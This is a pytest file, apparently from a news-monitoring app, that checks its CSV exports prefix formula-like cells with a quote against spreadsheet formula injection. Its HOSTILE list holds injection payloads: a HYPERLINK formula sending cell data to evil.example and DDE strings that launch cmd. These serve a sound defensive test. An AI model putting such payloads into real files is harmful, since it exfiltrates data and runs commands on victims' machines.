"""A CSV export opens straight in a spreadsheet (it starts with a byte-order mark), so
no text cell may start like a formula: such a cell gets a leading single quote
(OWASP's advice), every other cell is as stored."""

import csv
import io

import pytest

from newsmonitor.feeds.models import Outlet
from newsmonitor.timelines.readmodels.rollups import refresh_for_articles
from tests.support.factory import make_article

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def export(client, url):
    response = client.get(url)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def store(title, outlet_name="وكالة النيل للأنباء", evidence="مصر وباكستان", url=None):
    outlet = Outlet.objects.create(name=outlet_name, country="EG", homepage=f"http://o{Outlet.objects.count()}.example/")
    article = make_article(title, "مصر وباكستان", outlet=outlet, countries=["EG", "PK"],
                           pairs=[("EG", "PK", True, evidence)], topics=[("energy", 0.5)], url=url)
    refresh_for_articles([article.pk])
    return article


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_text_cell_that_starts_like_a_formula_is_neutralised(client, db, hostile):
    store(hostile, outlet_name=hostile, evidence=hostile, url="http://news.example/" + "=1")
    for url in ("/pairs/EG-PK/export.csv", "/search/export.csv"):
        [row] = export(client, url)
        assert row["title"] == "'" + hostile
        assert row["outlet"] == "'" + hostile
        for name, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)


def test_a_negative_looking_title_is_quoted_too(client, db):
    store("-5 درجات في القاهرة")
    [row] = export(client, "/pairs/EG-PK/export.csv")
    assert row["title"] == "'-5 درجات في القاهرة"


def test_ordinary_cells_are_unchanged(client, db):
    article = store("مصر وباكستان تبحثان التعاون = شراكة", url="http://news.example/a-b")
    [row] = export(client, "/pairs/EG-PK/export.csv")
    assert row["title"] == "مصر وباكستان تبحثان التعاون = شراكة"
    assert row["outlet"] == "وكالة النيل للأنباء"
    assert row["url"] == "http://news.example/a-b"
    assert row["id"] == str(article.pk) and row["pairs"] == "EG-PK" and row["topics"] == "energy"
    assert row["evidence"].startswith("{")


def test_the_json_export_keeps_titles_as_stored(client, db):
    store("=1+1")
    response = client.get("/pairs/EG-PK/export.json")
    assert b'"title": "=1+1"' in b"".join(response.streaming_content)
